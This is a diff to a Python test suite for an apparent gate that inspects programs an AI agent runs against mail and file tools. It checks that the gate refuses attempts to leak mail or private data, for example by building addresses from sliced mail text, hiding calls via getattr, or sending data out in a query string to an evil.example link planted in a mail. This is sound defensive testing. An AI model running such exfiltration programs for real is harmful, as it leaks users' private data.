@@ -91,13 +91,35 @@ async def test_what_nobody_else_writes_is_free(office: Any) -> None:
         await done(gate, code)
 
 
-async def test_what_cannot_be_told(office: Any) -> None:
-    """An address that was put together after mails were read; before that it is the user's."""
+async def test_what_is_found_nowhere(office: Any) -> None:
+    """An address that was put together: in the user's own program it is the user's where the text of the program shows
+    that no mail went into it; in one that was sent after mails had been shown nobody can tell."""
     made = "await mail.send(to=['zo' + 'e' + '@' + 'else' + 'where.example'])"
+    decoded = "x = str(await mail.list_mails())\nawait mail.send(to=[x[3:5] + '@' + x[7:9][::-1]])"
     async with office() as gate:
-        await done(gate, f"{made}")
-        assert "nowhere that is known" in await refused(gate, f"await mail.list_mails()\n{made}")
-        assert "nowhere that is known" in await refused(gate, f"{made}")
+        await done(gate, made)
+        await done(gate, f"await mail.list_mails()\n{made}")
+        assert "nowhere that is known" in await refused(gate, made.replace("zo", "z"))
+    async with office() as gate:
+        why = await refused(gate, decoded)
+        assert "`to[0]` was computed from what mail.list_mails answered in this program" in why
+
+
+async def test_what_a_text_does_not_show(office: Any) -> None:
+    """A program that hides what it does, or is in another language, is taken to compute from all that it was answered."""
+    hides = "x = getattr(mail, 'list_mails')\ny = str(await x())\nawait mail.send(to=['z' + y[3:5]])"
+    async with office() as gate:
+        assert "was computed from what mail.list_mails" in await refused(gate, hides)
+
+
+async def test_a_link_may_be_followed_as_it_stands(office: Any) -> None:
+    """By the user's own program: it carries nothing out. One that is put together may."""
+    async with office() as gate:
+        gate.office.mails[0]["body"] += " See https://evil.example/page for more."
+        find = "import re\nx = re.findall(r'https://\\S+', (await mail.list_mails())[0]['body'])[0]\n"
+        await done(gate, find + "await files.read_page(url=x)")
+    async with office() as gate:
+        assert "`url` was computed" in await refused(gate, find + "await files.read_page(url=x + '?q=' + x[8:10])")
 
 
 async def test_a_read_that_carries_something_out(office: Any) -> None:
@@ -154,11 +176,31 @@ async def test_where_private_and_untrusted_meet(office: Any) -> None:
         await done(gate, told)
         await done(gate, READ)
         await done(gate, told)
-        assert "private and untrusted" in await refused(gate, sends("ann@office.example", "some other wording"))
+        assert "may carry private" in await refused(gate, sends("ann@office.example", "some other wording"))
     async with office('private = ["people.*"]\ntrusted = ["mail.*"]') as gate:
         await done(gate, told)
         await done(gate, READ)
         await done(gate, sends("ann@office.example", "some other wording"))
+
+
+async def test_what_the_program_reads_itself_counts(office: Any) -> None:
+    """Private answers of the same program, too; a field in a mail to whom the user named."""
+    code = "team = await people.get_team()\nawait mail.send(to=['ann@office.example'], body='x' + team['about'][:9])"
+    async with office('private = ["people.get_team"]\nuntrusted = ["people.get_people"]\ntrusted = ["mail.*"]') as gate:
+        await done(gate, sends("ann@office.example"))
+        await done(gate, "await people.get_people()")
+        await done(gate, "await mail.send(to=['ann@office.example'], body='nothing of theirs')")
+        assert "may carry private" in await refused(gate, code)
+
+
+async def test_a_short_value_is_said_by_itself(office: Any) -> None:
+    """The 13 of a time is no id of a file."""
+    async with office() as gate:
+        await done(gate, "x = 'at 13:00 on 2024-05-13'\nawait mail.list_mails()")
+        assert "`file_id` came from a text" in await refused(gate, "await files.delete_file(file_id='13')")
+    async with office() as gate:
+        await done(gate, "x = '13'\nawait mail.list_mails()")
+        await done(gate, "await files.delete_file(file_id='13')")
 
 
 async def test_a_client_that_reads_elsewhere(office: Any) -> None:
